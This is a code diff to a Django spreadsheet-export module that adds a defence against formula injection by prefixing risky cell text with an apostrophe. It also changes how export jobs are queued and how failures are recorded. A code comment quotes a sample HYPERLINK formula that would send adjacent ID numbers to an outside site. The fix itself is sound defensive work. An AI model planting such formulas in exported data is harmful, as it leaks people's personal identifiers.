@@ -30,6 +30,7 @@ from openpyxl.cell import WriteOnlyCell
 from openpyxl.styles import Font
 
 from . import policy
+from .after_commit import enqueue
 from .audit import audit_record, register_verbs
 from .models import ExportJob, ExportState, User
 
@@ -70,14 +71,27 @@ def exporter_for(kind: str) -> Exporter:
         raise Http404("没有这种导出。") from None
 
 
-def _cell(value: Any) -> Any:
+# A text cell that starts with one of these is read by Excel (or WPS, or a CSV import
+# of the sheet) as a formula: a case summary `=HYPERLINK("http://…"&P2,"查看详情")`
+# would send its neighbouring cells — whole ID numbers — to another site. OWASP's remedy:
+# a leading apostrophe, which makes the spreadsheet keep the text as text.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def text(value: str) -> str:
+    """A user's text as it must be written to a spreadsheet cell: never a formula."""
+    return "'" + value if value.startswith(FORMULA_START) else value
+
+
+def cell_value(value: Any) -> Any:
+    """Any value as written to an exported cell (every export: here and the dashboard's)."""
     if value is None:
         return ""
     if isinstance(value, dt.datetime):
         return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
-    if isinstance(value, (str, int, float, Decimal, dt.date, bool)):
+    if isinstance(value, bool | int | float | Decimal | dt.date):
         return value
-    return str(value)
+    return text(str(value))
 
 
 def write_xlsx(
@@ -93,15 +107,15 @@ def write_xlsx(
     sheet = workbook.create_sheet(title=exporter.title[:31])
     bold = Font(bold=True)
     header = []
-    for text in exporter.headers:
-        cell = WriteOnlyCell(sheet, value=text)
+    for heading in exporter.headers:
+        cell = WriteOnlyCell(sheet, value=cell_value(heading))
         cell.font = bold
         header.append(cell)
     sheet.append(header)
     qs = exporter.queryset(user, params)
     written = 0
     for row in exporter.rows(user, qs.iterator(chunk_size=exporter.chunk_size)):
-        sheet.append([_cell(v) for v in row])
+        sheet.append([cell_value(v) for v in row])
         written += 1
         if progress is not None and written % PROGRESS_EVERY == 0:
             progress(written)
@@ -150,7 +164,10 @@ def export_queue(*, actor: User, exporter: Exporter, params: Mapping[str, str], 
                                        params=dict(params), total=total)
         audit_record(actor=actor, verb="export.queue", target=job, changes={"rows": [None, total]},
                      note=f"{exporter.title}：{dict(params) or '全部'}")
-        transaction.on_commit(lambda: export_run.delay(job.pk))
+        enqueue(export_run, job.pk, on_failure=lambda: ExportJob.objects.filter(
+            pk=job.pk, state=ExportState.PENDING).update(
+                state=ExportState.FAILED, finished_at=timezone.now(),
+                error="后台任务队列暂时无法连接，导出未能开始，请稍后重新导出。"))
     return job
 
 
